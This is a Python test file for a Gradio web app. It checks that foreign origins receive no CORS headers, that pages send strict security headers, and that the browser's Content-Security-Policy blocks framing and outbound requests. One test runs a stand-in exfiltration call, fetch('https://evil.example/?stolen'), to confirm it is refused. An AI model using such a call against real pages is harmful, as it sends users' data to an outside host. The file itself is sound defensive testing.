"""The pages as other origins see them: Gradio by itself would let every origin read its routes, with cookies."""

import re

import httpx
import pytest
from playwright.sync_api import Browser

from tests.ui.web.conftest import PAGES

FOREIGN = {"Origin": "https://evil.example"}
PREFLIGHT = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}
PUBLIC_NAME = {"Host": "policyqa.example.gov.cn"}
"""Behind a local name Gradio is strict by itself."""
ROUTES = (*PAGES, "/config", "/en/config", "/gradio_api/info", "/gradio_api/queue/join", "/pq/page.js")


@pytest.mark.parametrize("method", ["GET", "POST", "OPTIONS"])
def test_a_foreign_origin_is_allowed_nothing(site: str, method: str) -> None:
    headers = {**FOREIGN, **PUBLIC_NAME, **(PREFLIGHT if method == "OPTIONS" else {})}
    for route in ROUTES:
        answered = httpx.request(method, site + route, headers=headers)
        assert [name for name in answered.headers if name.startswith("access-control-")] == [], route


@pytest.mark.parametrize("page", PAGES)
def test_every_page_has_the_security_headers(site: str, page: str) -> None:
    headers = httpx.get(site + page).headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    assert not re.search(r"https?:|\*", headers["Content-Security-Policy"])


def test_a_page_can_neither_be_framed_nor_call_out(browser: Browser, site: str) -> None:
    """Not by ``open_page``, which takes every such refusal for a fault of the page."""
    with browser.new_context() as context:
        page = context.new_page()
        said: list[str] = []
        page.on("console", lambda message: said.append(message.text))
        page.goto(f"{site}/sign-in")
        page.evaluate("fetch('https://evil.example/?stolen').catch(() => 0)")
        page.evaluate("document.body.appendChild(document.createElement('iframe')).src = '/sign-in'")
        page.wait_for_timeout(300)
        assert [text for text in said if "connect" in text and "Content Security Policy" in text]
        assert [text for text in said if "frame-ancestors" in text or "X-Frame-Options" in text]
